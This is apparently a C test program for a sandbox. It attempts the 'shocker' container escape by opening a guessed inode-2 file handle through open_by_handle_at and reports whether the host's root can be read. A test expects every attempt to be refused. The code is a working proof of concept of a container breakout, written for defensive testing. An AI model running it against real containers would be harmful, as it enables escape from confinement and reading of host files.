/*
 * The "shocker" escape, as a hostile program inside a sandbox would try it: open_by_handle_at(2)
 * resolves a file handle on whatever file system the descriptor passed as mount_fd lives on,
 * ignoring the caller's root and mount namespace. A guessed handle of inode 2 (the root of an
 * ext2/3/4 file system, generation 0) opened on a descriptor of the host's disk is the host's
 * root directory.
 *
 * One line per attempt on stdout: "ATTEMPT failed ERRNO" or "ATTEMPT OPENED: what it read".
 * The test asserts every open_by_handle_at line is "failed EPERM". Exit status 0 whatever
 * happened: the lines are the result.
 *
 * Usage: handle-escape PATH... (each PATH is a mount_fd: "/", "/proc/1/fd/1", ...)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char *errno_name(int e) {
    switch (e) {
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ENOENT: return "ENOENT";
    case ENOSYS: return "ENOSYS";
    case EINVAL: return "EINVAL";
    case ESTALE: return "ESTALE";
    case EOPNOTSUPP: return "EOPNOTSUPP";
    case EBADF: return "EBADF";
    case ENOTDIR: return "ENOTDIR";
    case EOVERFLOW: return "EOVERFLOW";
    default: return "other";
    }
}

/* What an escape would show: the first names of a directory, or the first bytes of a file. */
static void show(int fd, char *out, size_t size) {
    out[0] = 0;
    int copy = dup(fd);
    DIR *dir = copy >= 0 ? fdopendir(copy) : NULL;
    if (dir) {
        struct dirent *entry;
        int count = 0;
        while ((entry = readdir(dir)) && count < 12) {
            strncat(out, entry->d_name, size - strlen(out) - 2);
            strncat(out, " ", size - strlen(out) - 1);
            count++;
        }
        closedir(dir);
        return;
    }
    if (copy >= 0) close(copy);
    ssize_t n = pread(fd, out, size - 1, 0);
    out[n > 0 ? n : 0] = 0;
    for (char *c = out; *c; c++) if (*c == '\n') *c = ' ';
}

static void try_open(const char *label, int mount_fd, struct file_handle *handle) {
    int fd = open_by_handle_at(mount_fd, handle, O_RDONLY);
    if (fd < 0) {
        printf("open_by_handle_at %s failed %s\n", label, errno_name(errno));
        return;
    }
    char seen[512];
    show(fd, seen, sizeof seen);
    printf("open_by_handle_at %s OPENED: %s\n", label, seen);
    close(fd);
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    for (int i = 1; i < argc; i++) {
        const char *path = argv[i];
        /* Not O_PATH: open_by_handle_at refuses such a descriptor (EBADF) whatever the
           confinement, so a file that only opens with O_PATH cannot serve the attack. */
        int mount_fd = open(path, O_RDONLY);
        if (mount_fd < 0) {
            printf("open %s failed %s\n", path, errno_name(errno));
            continue;
        }
        /* The file's own handle, as name_to_handle_at(2) gives it: opening it again must be
           refused just the same. */
        struct file_handle *own = malloc(sizeof *own + MAX_HANDLE_SZ);
        own->handle_bytes = MAX_HANDLE_SZ;
        int mount_id = 0;
        if (name_to_handle_at(mount_fd, "", own, &mount_id, AT_EMPTY_PATH) == 0) {
            printf("name_to_handle_at %s ok (type %d, %u bytes)\n", path, own->handle_type, own->handle_bytes);
            char label[300];
            snprintf(label, sizeof label, "own-handle:%s", path);
            try_open(label, mount_fd, own);
        } else {
            printf("name_to_handle_at %s failed %s\n", path, errno_name(errno));
        }
        free(own);
        /* The guessed one: FILEID_INO32_GEN (type 1), inode 2, generation 0. */
        struct file_handle *guess = malloc(sizeof *guess + 8);
        guess->handle_bytes = 8;
        guess->handle_type = 1;
        unsigned int inode_and_generation[2] = {2, 0};
        memcpy(guess->f_handle, inode_and_generation, 8);
        char label[300];
        snprintf(label, sizeof label, "inode-2:%s", path);
        try_open(label, mount_fd, guess);
        free(guess);
        close(mount_fd);
    }
    return 0;
}
